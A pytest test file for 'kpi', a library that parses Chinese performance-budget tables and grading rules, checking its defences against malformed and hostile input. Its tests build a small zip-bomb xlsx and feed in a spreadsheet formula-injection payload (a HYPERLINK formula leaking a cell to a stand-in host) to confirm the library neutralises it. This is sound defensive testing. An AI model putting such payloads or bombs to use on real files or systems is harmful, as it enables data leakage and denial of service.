"""Hostile and careless inputs: each defect found by trying kpi as such a user, as a case named after it."""

from __future__ import annotations

import decimal
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest

import kpi
from cases import SEED
from kpi.io.disclosure import read_disclosure

SEED_TEXT = SEED.read_text(encoding="utf-8")
LINES = SEED_TEXT.splitlines()


def _with_lines_after_row(number: int, extra: list[str]) -> str:
    """The seed with *extra* lines inserted after the blank line that ends its *number*-th row."""
    blanks = [index for index, line in enumerate(LINES) if index > 200 and not line.strip()]
    at = blanks[number]
    return "\n".join([*LINES[: at + 1], *extra, *LINES[at + 1 :]])


HEADER = ["\t职责活动", "\t年度预算数", "\t内容描述", "\t绩效目标", "\t绩效指标", "\t评价标准"]


@pytest.mark.parametrize(
    ("stray", "notice"),
    [
        (["- 12 -", ""], "a page number between rows, skipped: - 12 -"),
        (["第 3 页", ""], "a page number between rows, skipped: 第 3 页"),
        (["3/12", ""], "a page number between rows, skipped: 3/12"),
        ([*HEADER, ""], "the header repeated (a new page), skipped"),
        (["（续表）", ""], "a line that is not a cell of the table between rows, skipped: （续表）"),
    ],
)
def test_a_stray_line_in_a_disclosure_does_not_end_the_table(stray: list[str], notice: str) -> None:
    table = read_disclosure(_with_lines_after_row(40, stray), "seed.txt")
    assert len(table.indicators) == 102
    assert [row.indicator.text for row in table.indicators] == [
        row.indicator.text for row in read_disclosure(SEED_TEXT).indicators
    ]
    assert len(table.notices) == 1 and str(table.notices[0]).endswith(notice)


def test_a_cell_line_led_by_a_full_width_space_is_read_as_a_cell() -> None:
    text = SEED_TEXT.replace("\n\t1159.72\n", "\n\u30001159.72\n", 1)
    table = read_disclosure(text, "seed.txt")
    assert len(table.indicators) == 102 and table.rows[0].budget == Decimal("1159.72")
    assert "full-width space" in str(table.notices[0])


def test_a_document_cut_short_says_where_rows_are_missing() -> None:
    lines = SEED_TEXT.splitlines()
    heading = lines.index("\t人社政务管理")
    end = lines.index("", heading)  # the blank line after the heading's cells
    table = read_disclosure("\n".join(lines[:end]) + "\n", "cut.txt")  # the file ends after the duty's own row
    assert len(table.indicators) == 102 - 15
    assert tuple(map(str, table.notices)) == (
        f"cut.txt:{heading + 1}: 人社政务管理 has no indicator under it; are rows missing?",
    )


def test_the_table_ends_at_the_next_section_title() -> None:
    table = read_disclosure(SEED_TEXT)
    assert len(table.indicators) == 102 and tuple(map(str, table.notices)) == ()


@pytest.mark.parametrize("kind", ["table", "results"])
def test_an_unclosed_quote_in_a_csv_is_an_error_with_its_line(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "broken.csv"
    if kind == "table":
        header = "编号,职责活动,年度预算数,内容描述,绩效目标,绩效指标,评价标准,,,\n"
        rows = ['R1,促进就业,1,描述,目标,"城镇新增就业10万人,95%,85%-94%,70%-84%,69%以下\n']
        rows += [f"R{n},促进就业,1,描述,目标,就业,95%,85%-94%,70%-84%,69%以下\n" for n in range(2, 6)]
        path.write_text(header + "".join(rows), encoding="utf-8")
        with pytest.raises(
            kpi.FileError, match=r"broken\.csv:2: a quoted cell opened here runs to the end of the file"
        ):
            kpi.load_table(path)
    else:
        path.write_text('编号,填报项1,实际值1\nR002,完成率,"96%\nR003,完成率,90%\nR004,完成率,80%\n', encoding="utf-8")
        with pytest.raises(
            kpi.FileError, match=r"broken\.csv:2: a quoted cell opened here runs to the end of the file"
        ):
            kpi.load_results(path)


def test_a_quoted_cell_across_many_lines_is_an_error_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    rows = '编号,填报项1,实际值1\nR002,完成率,"96%\n' + "R003,完成率,90%\n" * 30 + 'R009",x,\nR010,完成率,1\n'
    path.write_text(rows, encoding="utf-8")
    with pytest.raises(kpi.FileError, match=r"long\.csv:2: a quoted cell runs across 32 lines"):
        kpi.load_results(path)


@pytest.mark.parametrize(
    "text",
    ["不得低于95%", "没有达到95%", "不得超过5%", "不到95%", "未能达到95%", "不应低于95%", "须不少于95%"],
)
def test_negation_words_are_comparators_never_part_of_a_metric_name(text: str) -> None:
    rule = kpi.parse_rule(text)
    assert rule.metrics == (None,)
    assert not any(metric and metric.endswith(("不得", "没有", "不到", "应", "须", "未能")) for metric in rule.metrics)


def test_a_rule_that_must_not_fall_below_grades_a_low_figure_low() -> None:
    criteria = kpi.Criteria.parse("不得低于95% | 85%-94% | 70%-84% | 69%以下")
    assert criteria.grade("50%").label == "差"


@pytest.mark.parametrize("text", ["接近100%", "3万万人", "95%人", "85%-94%之间之间"])
def test_phrases_kpi_cannot_read_safely_are_refused(text: str) -> None:
    with pytest.raises(kpi.KpiSyntaxError):
        kpi.parse_rule(text)


@pytest.mark.parametrize("outcome", ["80%", "3小时"])
def test_a_unitless_scale_refuses_an_outcome_with_a_unit(outcome: str) -> None:
    with pytest.raises(kpi.OutcomeError, match="without a unit"):
        kpi.Criteria.parse("0.95 | 0.85-0.94 | 0.70-0.84 | 0.69以下").grade(outcome)


def test_grades_do_not_depend_on_the_callers_decimal_context() -> None:
    criteria = kpi.Criteria.parse("≤10小时 | ≤15小时 | ≤20小时 | >20小时")
    expected = criteria.grade("601分钟").label
    with decimal.localcontext() as context:
        context.prec = 2
        context.traps[decimal.Inexact] = True
        assert kpi.Criteria.parse("≤10小时 | ≤15小时 | ≤20小时 | >20小时").grade("601分钟").label == expected == "良"


def test_numbers_that_are_not_floats_are_read_exactly() -> None:
    numpy = pytest.importorskip("numpy")
    criteria = kpi.Criteria.parse("84.7%以上 | 70%-84.6% | 60%-69.9% | 60%以下")
    assert criteria.grade(numpy.float32(84.7)).label == "优"
    assert criteria.grade(Fraction(847, 10)).label == "优"
    with pytest.raises(kpi.OutcomeError, match="not exact"):
        criteria.grade(Fraction(1, 3))


HUGE = 100_000


@pytest.mark.parametrize(
    "text",
    ["1" + " " * HUGE + "x", " " * HUGE + "95%", "9" * HUGE, "优(" + "9" * HUGE, "（" * HUGE, "95%" * (HUGE // 3)],
)
def test_a_long_text_is_refused_quickly_and_quoted_in_part(text: str) -> None:
    criteria = kpi.Criteria.parse("95% | 85%-94% | 70%-84% | 69%以下")
    with pytest.raises(kpi.OutcomeError) as caught:
        criteria.grade(text)
    assert len(str(caught.value)) < 200
    with pytest.raises(kpi.KpiSyntaxError):
        kpi.parse_rule(text)
    with pytest.raises(kpi.KpiError):
        kpi.Criteria.parse_scale(text)


def test_a_long_unit_hint_cell_is_read_in_linear_time() -> None:
    from kpi.io.results import _without_hint

    assert _without_hint("城镇新增就业（人）") == "城镇新增就业"
    assert _without_hint("x" + " " * HUGE + "y").startswith("x")


def test_a_results_header_of_many_pairs_is_read_in_one_pass(tmp_path: Path) -> None:
    pairs = 20_000
    header = ",".join(["编号", *(f"填报项{n},实际值{n}" for n in range(1, pairs + 1))])
    (tmp_path / "wide.csv").write_text(header + "\nR002," + "完成率,96%," * 2 + "\n", encoding="utf-8")
    results = kpi.load_results(tmp_path / "wide.csv")
    assert results.entries["R002"].filled[:2] == (("完成率", "96%"), ("完成率", "96%"))


@pytest.mark.parametrize("length", [480, 496, 500])
def test_the_canonical_text_of_a_long_rule_reads_back(length: int) -> None:
    text = "率" * (length - 4) + "≥90%"
    try:
        rule = kpi.parse_rule(text)
    except kpi.KpiSyntaxError as error:
        assert "canonical form" in str(error) or "longer than" in str(error)
    else:
        assert kpi.parse_rule(str(rule)) == rule


def test_spreadsheet_formulas_in_a_csv_output_are_neutralised(tmp_path: Path) -> None:
    from kpi.io.files import csv_safe, write_output

    assert csv_safe(['=HYPERLINK("http://x"&A1,"y")', "=1+1", "-5%以下", "@SUM(A1)", "\tx", "-5", "80", 3]) == [
        '\'=HYPERLINK("http://x"&A1,"y")',
        "'=1+1",
        "'-5%以下",
        "'@SUM(A1)",
        "'\tx",
        "-5",
        "80",
        3,
    ]
    out = tmp_path / "out.csv"
    write_output(out, ["编号", "评价标准"], [["=1+1", "-5%以下"]])
    assert out.read_text(encoding="utf-8-sig").splitlines()[1] == "'=1+1,'-5%以下"


def test_full_width_ids_match_their_table_rows(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_text("编号,填报项1,实际值1\nＲ002,完成率,96%\n", encoding="utf-8")
    assert "R002" in kpi.load_results(path).entries


def test_excels_unicode_text_export_is_read(tmp_path: Path) -> None:
    path = tmp_path / "r.txt"
    path.write_bytes("编号\t填报项1\t实际值1\r\nR002\t完成率\t96%\r\n".encode("utf-16"))
    results = kpi.load_results(path)
    assert results.entries["R002"].filled == (("完成率", "96%"),) and "UTF-16" in str(results.notices[0])


def test_an_output_path_that_is_a_symlink_is_written_through(tmp_path: Path) -> None:
    from kpi.io.files import write_output

    target = tmp_path / "real.csv"
    target.write_text("old", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    write_output(link, ["a"], [["1"]])
    assert link.is_symlink() and target.read_text(encoding="utf-8-sig").splitlines() == ["a", "1"]


def test_a_temporary_file_left_by_a_killed_run_is_removed_by_the_next(tmp_path: Path) -> None:
    import os
    import time

    from kpi.io.files import write_output

    left = tmp_path / ".out.csv.abc123.kpi-partial"
    left.write_bytes(b"x" * 100)
    old = time.time() - 2 * 3600
    os.utime(left, (old, old))
    fresh = tmp_path / ".out.csv.def456.kpi-partial"
    fresh.write_bytes(b"y")  # a run under way beside this one keeps its file
    write_output(tmp_path / "out.csv", ["a"], [["1"]])
    assert not left.exists() and fresh.exists()


def test_an_xlsx_declaring_a_huge_dimension_is_read_by_its_cells(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    import zipfile

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["编号", "填报项1", "实际值1"])
    sheet.append(["R002", "完成率", "96%"])
    book.save(tmp_path / "ok.xlsx")
    with zipfile.ZipFile(tmp_path / "ok.xlsx") as source, zipfile.ZipFile(tmp_path / "wide.xlsx", "w") as wide:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<dimension ref="A1:C2"/>', b'<dimension ref="A1:XFD1048576"/>')
            wide.writestr(item, data)
    results = kpi.load_results(tmp_path / "wide.xlsx")
    assert results.entries["R002"].filled == (("完成率", "96%"),)


def test_an_xlsx_that_unpacks_to_far_more_than_it_weighs_is_refused(tmp_path: Path) -> None:
    import zipfile

    with zipfile.ZipFile(tmp_path / "bomb.xlsx", "w", compression=zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/sharedStrings.xml", b"<sst><si><t>" + b"a" * 20_000_000 + b"</t></si></sst>")
    with pytest.raises(kpi.FileError, match=r"unpacks to [0-9]+ MB from far less"):
        kpi.load_results(tmp_path / "bomb.xlsx")


def test_errors_carry_a_chinese_message_for_reports_and_survive_pickling() -> None:
    import pickle

    error = kpi.OutcomeError("outcome 'x' is not a number", zh="实际值“x”不是数字")
    again = pickle.loads(pickle.dumps(error))
    assert (type(again), str(again), again.says(), again.says("en")) == (
        kpi.OutcomeError,
        "outcome 'x' is not a number",
        "实际值“x”不是数字",
        "outcome 'x' is not a number",
    )
    syntax = pickle.loads(pickle.dumps(kpi.KpiSyntaxError("cannot read", "95%x", 3, zh="无法读取")))
    assert syntax.says().startswith("无法读取 (第4列)") and str(syntax).startswith("cannot read (column 4)")
    assert kpi.FileError("no such file").says() == "no such file"  # English where no Chinese was written
